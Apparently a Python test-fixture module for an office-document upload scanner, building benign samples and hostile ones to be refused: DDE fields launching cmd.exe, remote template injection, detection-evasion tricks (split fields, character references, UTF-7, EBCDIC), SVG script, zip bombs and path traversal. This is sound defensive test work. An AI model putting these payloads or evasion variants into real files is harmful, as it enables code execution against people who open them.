"""Documents of an office program as people send them, and as people send them who mean harm."""

import base64
import zipfile
from collections.abc import Mapping

from tests.kit.making import PE, SVG, photographed, zipped

XML = '<?xml version="1.0" encoding="UTF-8"?>'
WORDX, SHEET = (
    f"application/vnd.openxmlformats-officedocument.{kind}"
    for kind in ("wordprocessingml.document", "spreadsheetml.sheet")
)
TEXT, TABLE = (f"application/vnd.oasis.opendocument.{kind}" for kind in ("text", "spreadsheet"))

_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_M = 'xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"'
_URN = "urn:oasis:names:tc:opendocument:xmlns"
_ODF = " ".join(
    f'xmlns:{prefix}="{_URN}:{name}:1.0"'
    for prefix, name in {
        **{name: name for name in ("office", "text", "table", "script", "style", "meta", "presentation")},
        "draw": "drawing",
        "d": "drawing",
        "s": "script",
        "o": "office",
    }.items()
)
_ODF += ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:x="http://www.w3.org/1999/xlink"'


def relations(*told: str) -> str:
    inside = "".join(f"<Relationship {each}/>" for each in told)
    return (
        f'{XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{inside}</Relationships>"
    )


def _outside(kind: str, target: str) -> str:
    return f'Id="r" Type="{_OFFICE}/{kind}" Target="{target}" TargetMode="External"'


WORD: Mapping[str, bytes | str] = {
    "[Content_Types].xml": f"{XML}<Types/>",
    "_rels/.rels": relations(f'Id="r" Type="{_OFFICE}/officeDocument" Target="word/document.xml"'),
    "word/document.xml": f"{XML}<w:document {_W}>Beste commissie</w:document>",
}
OPEN: Mapping[str, bytes | str] = {
    "mimetype": TEXT,
    "content.xml": f"{XML}<office:document-content {_ODF}>Beste commissie</office:document-content>",
    "META-INF/manifest.xml": f'{XML}<m:manifest xmlns:m="{_URN}:manifest:1.0"/>',
    "Configurations2/accelerator/current.xml": "",
}
_RELATIONS = "word/_rels/document.xml.rels"
_DDE = r"c:\\windows\\system32\\cmd.exe"


def _docx(body: str = "", parts: Mapping[str, bytes | str] | None = None, *related: str) -> bytes:
    text = f"{XML}<w:document {_W}><w:body>{body}</w:body></w:document>"
    return zipped({**WORD, "word/document.xml": text, _RELATIONS: relations(*related), **(parts or {})})


def _related(*told: str) -> bytes:
    return _docx("", None, *told)


_BEGUN = '<w:fldChar w:fldCharType="begin"/>'


def _field(*instructions: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in instructions)
    return f'<w:p><w:r>{_BEGUN}</w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def _chosen(*instructions: str) -> str:
    """A field that a reader who passes over what it does not know puts together."""
    choice = f'<c:Choice xmlns:c="http://x" Requires="q">{_BEGUN}</c:Choice>'
    return _BEGUN + choice.join(f"<w:instrText>{each}</w:instrText>" for each in instructions)


def _xlsx(cell: str = "<v>1</v>", parts: Mapping[str, bytes | str] | None = None) -> bytes:
    book = {
        **{name: WORD[name] for name in ("[Content_Types].xml", "_rels/.rels")},
        "xl/workbook.xml": f"{XML}<workbook {_S}/>",
        "xl/worksheets/sheet1.xml": f"{XML}<worksheet {_S}><c>{cell}</c></worksheet>",
    }
    return zipped({**book, **(parts or {})})


def _odf(body: str, parts: Mapping[str, bytes | str] | None = None, kind: str = TEXT) -> bytes:
    text = f"{XML}<office:document-content {_ODF}>{body}</office:document-content>"
    return zipped({**OPEN, "mimetype": kind, "content.xml": text, **(parts or {})})


def _utf7(text: str) -> bytes:
    """As people write it who hide something: the letters that matter in base 64."""
    head, rest = text.split("?>", 1)
    for letter in "<T":
        hidden = base64.b64encode(letter.encode("utf-16-be")).rstrip(b"=").decode()
        rest = rest.replace(letter, f"+{hidden}-")
    return (head.replace("UTF-8", "UTF-7") + "?>" + rest).encode()


_TEMPLATE = _outside("attachedTemplate", "https://example.nl/x.dotm")
_LOGO = '<svg xmlns="http://www.w3.org/2000/svg"><rect id="a" style="fill:url(#a)"/></svg>'

GOOD: Mapping[str, tuple[bytes, str]] = {
    "letter.docx": (_related(_outside("hyperlink", "https://example.nl")), WORDX),
    "letter.odt": (_odf('<text:a xlink:href="https://example.nl">Beste commissie</text:a>'), TEXT),
    "spoken.docx": (_docx("<w:t>Dde verhuurder: met DDE klantenservice, INCLUDEPICTURE</w:t>"), WORDX),
    "fields.docx": (
        _docx(
            _field(' HYPERLINK "https://example.nl/link" ', "\\h")
            + f'{_BEGUN}<w:instrText> IF </w:instrText>{_field("PAGE")}<w:instrText>=1 "DDE"</w:instrText>'
            + f'<w:fldChar w:fldCharType="separate"/>{_field("LINKS")}<w:fldChar w:fldCharType="end"/>'
        ),
        WORDX,
    ),
    "names.docx": (_docx(_field(' XE "Hidde de Vries" ', ' XE "Fedde Bakker" ')), WORDX),
    "sum.docx": (_docx(f"<m:oMath {_M}><m:f><m:num>1</m:num><m:den>2</m:den></m:f></m:oMath>"), WORDX),
    "signed.docx": (
        _docx("", {"_xmlsignatures/origin.sigs": "", "_xmlsignatures/sig1.xml": "<Signature/>"}),
        WORDX,
    ),
    "logo.docx": (_docx("", {"word/media/image1.svg": _LOGO}), WORDX),
    "logo-with-space.docx": (
        _docx("", {"word/media/image1.svg": _LOGO.replace("(", "(" + " " * 1_000_000)}),
        WORDX,
    ),
    "logo.odt": (_odf("", {"Pictures/1.svg": _LOGO}), TEXT),
    "pictures.docx": (
        _docx("", {f"word/media/image1.{ending}": photographed() for ending in ("jfif", "tmp")}),
        WORDX,
    ),
    "template.docx": (
        _related(_outside("attachedTemplate", r"file:///C:\Users\Jan\Templates\Mijn%20brief.dotx")),
        WORDX,
    ),
    "template.odt": (_odf('<meta:template xlink:href="../../Sjablonen/Brief.ott"/>'), TEXT),
    "lost-picture.docx": (_related(_outside("image", "NULL")), WORDX),
    "numbered.docx": (
        zipped({name.replace("document.xml", "document2.xml"): part for name, part in WORD.items()}),
        WORDX,
    ),
    "wide.docx": (_docx("", {"word/styles.xml": f"{XML}<x/>".replace("8", "16").encode("utf-16")}), WORDX),
    "table.xlsx": (_xlsx("<f>SUM(A1:A9)&amp;\"image (1)\"&amp;'Image (2)'!A1</f>"), SHEET),
    "remark.xlsx": (
        _xlsx(parts={"xl/drawings/vmlDrawing1.vml": "<xml><div>Huur<br>servicekosten</div></xml>"}),
        SHEET,
    ),
    "choices.xlsx": (
        _xlsx('<formula1><m:f xmlns:m="http://x">Lijst!A1</m:f></formula1><v>1</v>'),
        SHEET,
    ),
    "table.ods": (_odf('<table:table-cell table:formula="of:=SUM([.A1:.A9])"/>', kind=TABLE), TABLE),
}
"""What is kept, and as what."""

_PARTS = {
    "script": '<script:event-listener xlink:href="vnd.sun.star.script:a.py$b?location=share"/>',
    "script-of-any-prefix": '<s:event-listener x:href="vnd.sun.star.script:a.py$b?location=share"/>',
    "script-in-a-field": "<text:script>x</text:script>",
    "macro-of-a-link": '<text:a xlink:href = "vnd.sun.star.script:a"/>',
    "program-of-a-slide": '<presentation:event-listener presentation:action="execute" xlink:href="a.exe"/>',
    "fetched": '<draw:image xlink:href="https://example.nl/x.png"/>',
    "fetched-by-any-prefix": '<d:image x:href="//example.nl/x.png"/>',
    "fetched-behind-a-sign": '<draw:image draw:filter-name="a>b" xlink:href="https://example.nl/x.png"/>',
    "fetched-by-references": '<draw:image xlink:href="&#104;ttps://example.nl/x.png"/>',
    "section": '<text:section-source xlink:href="https://example.nl/x.odt"/>',
    "object": '<draw:object xlink:href="https://example.nl/x.ods"/>',
    "frame": '<draw:floating-frame xlink:href="x"/>',
    "background": '<style:background-image xlink:href="https://example.nl/x.png"/>',
    "template-from-elsewhere": '<meta:template xlink:href="https://example.nl/x.ott"/>',
    "template-from-a-share": '<meta:template xlink:href="file:////example.nl/x.ott"/>',
    "dde": '<text:dde-connection-decl office:dde-application="cmd"/>',
}
_SHEETS = {
    "dde": '<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/C calc&quot;)"/>',
    "dde-for-excel": "<table:table-cell table:formula=\"msoxl:=cmd|'/C calc'!'A1'\"/>",
    "dde-source": '<table:dde-link><o:dde-source o:dde-application="cmd"/></table:dde-link>',
    "service": '<table:table-cell table:formula="of:=WEBSERVICE([.A1])"/>',
    "fetched": '<table:table-source xlink:href="https://example.nl/x.csv"/>',
}
_DRAWINGS = {
    "script": SVG.decode(),
    "event": '<svg onload="alert(1)"/>',
    "fetched": '<svg><image href="https://example.nl/x.png"/></svg>',
    "style": "<svg><style>@import 'https://example.nl/x.css';</style></svg>",
    "style-in-two": "<svg><style>@import 'https://example.nl/x.css';<style/></style></svg>",
    "style-in-escapes": "<svg><style>@\\69mport 'https://example.nl/x.css';</style></svg>",
    "style-from-elsewhere": "<?xml-stylesheet href='https://example.nl/x.css'?><svg/>",
    "base": "<svg xml:base='https://example.nl/'/>",
    "entities": f"<!DOCTYPE svg SYSTEM 'https://example.nl/x.dtd'>{_LOGO}",
}
_RELATED = {
    "template": _TEMPLATE,
    "template-by-references": _TEMPLATE.replace("E", "&#69;").replace("dT", "d&#84;"),
    "template-from-a-share": _outside("attachedTemplate", r"file:///\\example.nl\x.dotm"),
    "template-from-a-written-share": _outside("attachedTemplate", "file:///%5C%5Cexample.nl%5Cx.dotm"),
    "fetched": _outside("image", "https://example.nl/x.png"),
    "fetched-behind-a-sign": _outside("image", "https://example.nl/x.png?a>b"),
    "fetched-inside": 'Type="http://x/image" Target="//example.nl/x.png"',
    "fetched-as-if-a-link": _outside("subDocument", "https://example.nl/x?Type='/hyperlink'"),
    "control": f'Type="{_OFFICE}/control" Target="c.xml"',
    "page": f'Type="{_OFFICE}/aFChunk" Target="x.txt"',
}
_BODIES = {
    "field": f"<w:instrText>DDEAUTO {_DDE}</w:instrText>",
    "field-in-two": _field("DDEA", f"UTO {_DDE}"),
    "field-by-references": _field(f"&#68;DE {_DDE}"),
    "field-within-a-field": _BEGUN + _field("QUOTE DDE") + f"<w:instrText>{_DDE}</w:instrText>",
    "field-as-a-name": f'<w:fldSimple w:instr="DDE {_DDE}"/>',
    "field-of-a-text": _field(' INCLUDETEXT "https://example.nl/x.docx" '),
    "field-of-a-picture": _field(" INCLUDE", 'PICTURE "https://example.nl/x.png" \\d '),
    "field-of-a-link": _field(r' LINK Excel.Sheet.8 "\\\\example.nl\\x.xls" \a '),
    "field-in-two-by-a-choice": _chosen("DD", f"E {_DDE}"),
    "field-in-two-behind-a-number": _field("PAGE") + _chosen("D", f"DE {_DDE}"),
    "field-in-two-by-an-element": f"<w:instrText>DDE<f/>AUTO {_DDE}</w:instrText>",
    "chunk": "<w:altChunk/>",
    "chunk-without-a-prefix": f"<altChunk {_W.replace(':w', '')}/>",
    "picture-fetched": '<imagedata src="https://example.nl/x.png"/>',
    "deep": "<w:p>" * 1001 + "</w:p>" * 1001,
    "unclosed": "<w:p>",
    "unbound": "<q:p/>",
}
_NOT_ACTIVE = {"deep": "bomb", "unclosed": "damaged", "unbound": "damaged"}

BAD: Mapping[str, tuple[bytes, str]] = {
    "macro.docx": (_docx("", {"word/vbaProject.bin": b"x"}), "active"),
    "macro-kind.docx": (
        _docx(
            "", {"[Content_Types].xml": '<Types><Override ContentType="x.macroEnabled.main+xml"/></Types>'}
        ),
        "active",
    ),
    "embedded.docx": (_docx("", {"word/embeddings/oleObject1.bin": b"x"}), "active"),
    "program.docx": (_docx("", {"word/media/image1.png": PE}), "active"),
    "program-named.docx": (_docx("", {"run.exe": PE}), "active"),
    "no-picture.docx": (_docx("", {"word/media/image1.tmp": b"@echo off"}), "active"),
    "archive.docx": (_docx("", {"word/media/image1.png": zipped({"x": "x"})}), "active"),
    "entities.docx": (_docx("", {"word/styles.xml": "<!DOCTYPE x [<!ENTITY a 'b'>]><x/>"}), "active"),
    "control-part.docx": (
        _docx("", {"word/c.xml": '<a:ocx xmlns:a="http://schemas.microsoft.com/office/2006/activeX"/>'}),
        "active",
    ),
    "field-as-a-text.docx": (
        _docx("", {"word/header1.txt": f"\ufeff <w:hdr {_W}>{_field('DDE ' + _DDE)}</w:hdr>"}),
        "active",
    ),
    "field-as-a-picture.docx": (
        _docx("", {"word/header1.png": f"{XML}<w:hdr {_W}>{_field('DDE ' + _DDE)}</w:hdr>"}),
        "active",
    ),
    "drawing-unnamed.docx": (_docx("", {"word/a.xml": _DRAWINGS["event"]}), "active"),
    "template-utf7.docx": (_docx("", {_RELATIONS: _utf7(relations(_TEMPLATE))}), "damaged"),
    "template-ebcdic.docx": (
        _docx("", {_RELATIONS: relations(_TEMPLATE).replace("UTF-8", "IBM037").encode("cp037")}),
        "damaged",
    ),
    "template-wide.docx": (
        _docx("", {_RELATIONS: relations(_TEMPLATE).replace("UTF-8", "UTF-16").encode("utf-16")}),
        "active",
    ),
    **{f"{name}.docx": (_related(told), "active") for name, told in _RELATED.items()},
    **{f"{name}.docx": (_docx(told), _NOT_ACTIVE.get(name, "active")) for name, told in _BODIES.items()},
    **{
        f"drawing-{name}.docx": (_docx("", {"word/a.svg": told}), "active")
        for name, told in _DRAWINGS.items()
    },
    "query.xlsx": (
        _xlsx(parts={"xl/c.xml": f'{XML}<webPr {_S} url="https://example.nl"/>'}),
        "active",
    ),
    "share.xlsx": (_xlsx(parts={"xl/c.xml": r'<textPr sourceFile="\\example.nl\x.csv"/>'}), "active"),
    "service.xlsx": (_xlsx('<f>_xlfn.WEBSERVICE("https://example.nl/"&amp;A2)</f>'), "active"),
    "picture.xlsx": (_xlsx("<f>'\"'!A1&amp;_xlfn.IMAGE(A1)&amp;'\"'!A1</f>"), "active"),
    "dde-in-two.xlsx": (_xlsx("<formula1>cmd|'/c <m:f xmlns:m='http://x'/>calc'!A0</formula1>"), "active"),
    "dde-between-columns.xlsx": (_xlsx("<f>T['[]+cmd|'/c calc'!A0+T['[]</f>"), "active"),
    "dde.xlsx": (_xlsx("<f>cmd|'/c calc'!A0</f>"), "active"),
    "program.pptx": (
        _docx("", {"ppt/slides/slide1.xml": '<hlinkMouseOver action="ppaction://program"/>'}),
        "active",
    ),
    "macro.odt": (_odf("", {"Basic/script.xml": "<x/>"}), "active"),
    **{f"{name}.odt": (_odf(told), "active") for name, told in _PARTS.items()},
    **{f"{name}.ods": (_odf(told, kind=TABLE), "active") for name, told in _SHEETS.items()},
    "bomb.docx": (_docx("", {"word/styles.xml": bytes(2 * 1024 * 1024)}), "bomb"),
    "bomb-of-many.docx": (_docx("", {f"word/{n}.xml": "" for n in range(2001)}), "bomb"),
    "locked.docx": (
        zipped(WORD, zipfile.ZIP_STORED).replace(
            b"PK\x01\x02\x14\x03\x14\0\0\0", b"PK\x01\x02\x14\x03\x14\0\1\0"
        ),
        "locked",
    ),
    "behind.docx": (zipped(WORD) + b"x", "damaged"),
    "upwards.docx": (_docx("", {"../../x.xml": "<x/>"}), "damaged"),
    "cut.docx": (zipped(WORD)[:-30], "damaged"),
}
"""What is refused, under the name it comes with, and the reason."""
